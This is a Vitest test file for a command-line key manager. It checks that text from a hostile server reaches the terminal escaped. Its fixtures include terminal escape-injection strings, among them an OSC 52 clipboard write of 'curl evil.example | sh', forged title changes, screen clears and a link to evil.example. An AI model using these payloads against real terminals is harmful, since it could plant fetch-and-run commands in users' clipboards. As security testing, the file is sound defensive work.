// tier: process
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { SVC_BIN, tempConfigDir } from '../helpers/cli.js';
import { startSpecServer, records, type SpecServer } from '../helpers/spec-server.js';
import { Terminal } from '../helpers/terminal.js';

// docs/contract.md §C3: text from a server reaches a person sanitised. A hostile
// server's names, workspace and error texts carry clipboard writes (OSC 52),
// screen clears, title changes (OSC 0 and 2) and links (OSC 8); on a real
// terminal none of them acts: tmux's paste buffer stays empty, lines printed
// before svc stay on screen, and the pane keeps the title the test gave it.

const PAYLOAD = 'curl evil.example | sh';
const OSC52 = `\x1b]52;c;${Buffer.from(PAYLOAD).toString('base64')}\x07`;
const FORGED_TITLE = 'pwned';
const TITLE = 'svc-hostile-test';

const HOSTILE = [
  `clip${OSC52}`,
  'wipe\x1b[2J\x1b[H',
  `title\x1b]0;${FORGED_TITLE}\x07`,
  `title2\x1b]2;${FORGED_TITLE}\x1b\\`,
  'link\x1b]8;;https://evil.example\x07click\x1b]8;;\x07',
  'ok\n✓ Key revoked.',
  'csi\u009b31mred',
];

const ERROR_CODE = `INVALID_REQUEST${OSC52}\x1b[2J\x1b]2;${FORGED_TITLE}\x07\x1b]8;;https://evil.example\x07click\x1b]8;;\x07`;

/** A shell script that names the pane, prints a line that must stay on screen, then runs `commands`. */
const framed = (commands: string) => `printf '\\033]2;${TITLE}\\007'; echo BEFORE; ${commands}; echo "EXIT $?"; echo AFTER`;

const config = tempConfigDir();
let server: SpecServer;
let term: Terminal | undefined;
beforeAll(async () => {
  server = await startSpecServer({
    record: records.full,
    getOne: true,
    workspace: { id: 'ws_1', name: `Team\x1b[2J${OSC52}\x1b]0;${FORGED_TITLE}\x07`, plan: 'pro\x1b[5m', requestsPerMinute: 1000 },
  });
  for (const name of HOSTILE) server.addKey(name);
});
afterEach(async () => {
  await term?.close();
  term = undefined;
});
afterAll(async () => {
  await server.close();
  config.remove();
});

const env = () => ({ SVC_BASE_URL: server.url, SVC_API_KEY: server.apiKey, SVC_CONFIG_DIR: config.dir, NO_COLOR: '1' });

async function start(script: string, rows = 60): Promise<Terminal> {
  term = await Terminal.start(['sh', '-c', script], env(), { columns: 200, rows }, { clipboard: true });
  return term;
}

/** Nothing got through: no clipboard write, no clear, no new title. */
async function expectUntouched(t: Terminal): Promise<void> {
  expect(await t.screen()).toMatch(/^BEFORE$/m);
  const buffer = await t.pasteBuffer();
  if (buffer !== null) expect(buffer).not.toContain(PAYLOAD);
  expect(await t.title()).toBe(TITLE);
}

it('the checks see an attack: the same sequences printed raw write the paste buffer, clear the screen and change the title', async () => {
  const raw = `printf '${OSC52.replace('\x1b', '\\033').replace('\x07', '\\007')}\\033[2J\\033]2;${FORGED_TITLE}\\007'`;
  const t = await start(framed(raw));
  await t.waitFor('AFTER');
  expect(await t.pasteBuffer()).toBe(PAYLOAD);
  expect(await t.screen()).not.toMatch(/^BEFORE$/m);
  expect(await t.title()).toBe(FORGED_TITLE);
});

it('keys list, status and a failing revoke show every sequence as text and act on none', async () => {
  server.rules.push({
    method: 'DELETE',
    times: 1,
    work: false,
    then: { status: 400, body: JSON.stringify({ error: `boom\x1b[2J${OSC52}\n✓ Revoked everything.`, code: ERROR_CODE }) },
  });
  const victim = [...server.keys.values()].find((k) => k.name.startsWith('clip'))!.id;
  const t = await start(framed(`node '${SVC_BIN}' keys list; node '${SVC_BIN}' status; node '${SVC_BIN}' keys revoke ${victim} --yes`));
  const screen = await t.waitFor('AFTER');
  await expectUntouched(t);
  expect(screen).toContain('EXIT 2');
  expect(screen).toContain('clip\\x1b]52;c;');
  expect(screen).toContain('wipe\\x1b[2J\\x1b[H');
  expect(screen).toContain(`title\\x1b]0;${FORGED_TITLE}\\x07`);
  expect(screen).toContain(`title2\\x1b]2;${FORGED_TITLE}\\x1b\\`);
  // The table cuts names at 24 characters; what shows is escaped.
  expect(screen).toContain('link\\x1b]8;;https://evi…');
  expect(screen).toContain('ok\\n✓ Key revoked.');
  expect(screen).toContain('csi\\x9b31mred');
  expect(screen).toContain(`Team\\x1b[2J\\x1b]52;c;`);
  expect(screen).toContain('boom\\x1b[2J\\x1b]52;c;');
  expect(screen).toContain('\\n✓ Revoked everything.');
  expect(screen).toContain('(400 INVALID_REQUEST\\x1b]52;c;');
  expect(screen.split('\n').some((line) => /^\s*✓ (Key revoked|Revoked everything)/.test(line))).toBe(false);
});

it('the interactive manager shows the keys, the workspace and a pick-list escaped, and acts on nothing', async () => {
  const t = await start(framed(`node '${SVC_BIN}'`), 80);
  let screen = await t.waitFor(/\? What next\? \(Esc to quit\)\n❯ Create a key/);
  expect(screen).toContain('clip\\x1b]52;c;');
  expect(screen).toContain(`title\\x1b]0;${FORGED_TITLE}\\x07`);
  expect(screen).toContain('Team\\x1b[2J\\x1b]52;c;');
  await expectUntouched(t);

  await t.send('Down', 'Down', 'Enter');
  // The question comes before its list: the list's own text is what is waited for.
  screen = await t.waitFor(/Keys to revoke:[\s\S]*wipe/);
  expect(screen).toContain('wipe\\x1b[2J\\x1b[H');
  expect(screen).toContain(`title2\\x1b]2;${FORGED_TITLE}\\x1b\\`);
  await expectUntouched(t);

  await t.send('Escape');
  await t.waitFor(/Cancelled\.(.*\n)*\? What next\?/);
  await t.send('Escape');
  screen = await t.waitFor('AFTER');
  expect(screen).toContain('EXIT 0');
  await expectUntouched(t);
});
